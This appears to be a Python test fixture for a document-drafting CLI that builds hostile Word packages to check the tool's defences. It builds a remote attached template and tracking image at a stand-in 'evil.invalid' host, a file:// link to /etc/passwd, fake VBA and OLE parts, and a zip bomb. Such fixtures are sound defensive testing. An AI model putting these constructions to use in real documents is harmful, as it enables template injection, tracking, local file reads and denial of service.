"""Hostile Word packages for the tests: a reference document that reaches out, zip bombs."""

from __future__ import annotations

import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL_TEMPLATE = "http://evil.invalid/macros.dotm"
EVIL_IMAGE = "http://evil.invalid/track.png"
EVIL_OLE = "file:///etc/passwd"


ROOT = Path(__file__).resolve().parent.parent
COUNTY = ROOT / "examples" / "county-party-building.yaml"
ENV = {**os.environ, "PYTHONIOENCODING": "utf-8", "DRAFTER_JOBS": "1"}
# Exit status for an input that cannot be read: check exits 2 as linters do (1 = findings).
UNREADABLE = {"clean": 1, "parse": 1, "check": 2}


def drafter(*args, cwd: Path = ROOT, env: dict | None = None, **kw) -> subprocess.CompletedProcess:
    """Run the CLI in a subprocess; a traceback on stderr fails the test whatever the exit status."""
    proc = subprocess.run([sys.executable, "-m", "drafter", *map(str, args)], cwd=cwd, capture_output=True,
                          text=True, env=env or ENV, **{"timeout": 180, **kw})
    assert "Traceback" not in proc.stderr, proc.stderr
    return proc


def plain_docx(tmp: Path) -> bytes:
    """A .docx drafter built from a seed example (a valid package to tamper with)."""
    from drafter.building import build_one

    root = Path(__file__).resolve().parent.parent
    out = tmp / "plain.docx"
    if not out.exists():
        build_one(root / "examples" / "county-article.yaml", out, "docx", None, False)
    return out.read_bytes()


def rewrite(data: bytes, change) -> bytes:
    """A copy of the package with `change(name, bytes) -> bytes | None` applied (None drops a part)
    and `change.extra` parts added."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for name in src.namelist():
            blob = change(name, src.read(name))
            if blob is not None:
                dst.writestr(name, blob)
        for name, blob in getattr(change, "extra", {}).items():
            dst.writestr(name, blob)
    return out.getvalue()


def hostile_reference(tmp: Path) -> bytes:
    """A macro-enabled reference document with an attached remote template, an external image,
    a file:// OLE object, an embedded OLE part and a VBA project."""

    def change(name: str, blob: bytes) -> bytes:
        text = blob.decode("utf-8")
        if name == "[Content_Types].xml":
            text = text.replace("wordprocessingml.document.main+xml", "PLACEHOLDER")
            text = text.replace("application/vnd.openxmlformats-officedocument.PLACEHOLDER",
                                "application/vnd.ms-word.document.macroEnabled.main+xml")
            text = text.replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                                '<Override PartName="/word/embeddings/oleObject1.bin" '
                                'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>')
        elif name == "word/_rels/document.xml.rels":
            text = text.replace("</Relationships>",
                                f'<Relationship Id="rId90" Type="{R}/image" Target="{EVIL_IMAGE}" TargetMode="External"/>'
                                f'<Relationship Id="rId91" Type="{R}/oleObject" Target="{EVIL_OLE}" TargetMode="External"/>'
                                '<Relationship Id="rId92" Type="http://schemas.microsoft.com/office/2006/relationships/'
                                'vbaProject" Target="vbaProject.bin"/>'
                                f'<Relationship Id="rId93" Type="{R}/oleObject" Target="embeddings/oleObject1.bin"/>'
                                '</Relationships>')
        elif name == "word/settings.xml":
            text = text.replace("<w:zoom", '<w:attachedTemplate r:id="rId1"/><w:zoom', 1)
            assert "attachedTemplate" in text
        elif name == "word/footer1.xml":
            text = text.replace("</w:ftr>", '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" '
                                f'xmlns:r="{R}" r:id="rId9"/></w:pict></w:r></w:p></w:ftr>')
        return text.encode("utf-8")

    change.extra = {  # type: ignore[attr-defined]
        "word/_rels/settings.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{R}/attachedTemplate" Target="{EVIL_TEMPLATE}" TargetMode="External"/>'
            '</Relationships>'),
        "word/_rels/footer1.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId9" Type="{R}/image" Target="{EVIL_IMAGE}" TargetMode="External"/>'
            '</Relationships>'),
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 fake VBA project",
        "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 fake OLE object",
    }
    return rewrite(plain_docx(tmp), change)


def zip_bomb(tmp: Path, part: str = "word/styles.xml", size: int = 20 * 1024 * 1024) -> bytes:
    """A valid package whose `part` unpacks to `size` bytes of padding (compressed ~1000 to 1)."""

    def change(name: str, blob: bytes) -> bytes:
        if name == part:
            return blob + b" " * size
        return blob

    return rewrite(plain_docx(tmp), change)
